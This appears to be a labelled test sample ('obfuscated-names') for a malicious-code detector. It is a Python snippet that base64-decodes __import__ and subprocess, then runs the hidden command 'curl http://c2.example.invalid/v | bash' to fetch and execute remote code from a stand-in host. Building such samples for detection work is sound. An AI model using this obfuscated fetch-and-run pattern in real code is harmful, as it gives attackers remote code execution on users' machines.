# family: obfuscated-names
# __import__ fetched from the globals' builtins under an encoded key
import base64

k = base64.b64decode("X19pbXBvcnRfXw==").decode()
imp = globals()["__builtins__"].__dict__[k] if hasattr(globals()["__builtins__"], "__dict__") else globals()["__builtins__"][k]
sp = imp(base64.b64decode("c3VicHJvY2Vzcw==").decode())
sp.call(base64.b64decode("Y3VybCBodHRwOi8vYzIuZXhhbXBsZS5pbnZhbGlkL3YgfCBiYXNo").decode(), shell=True)
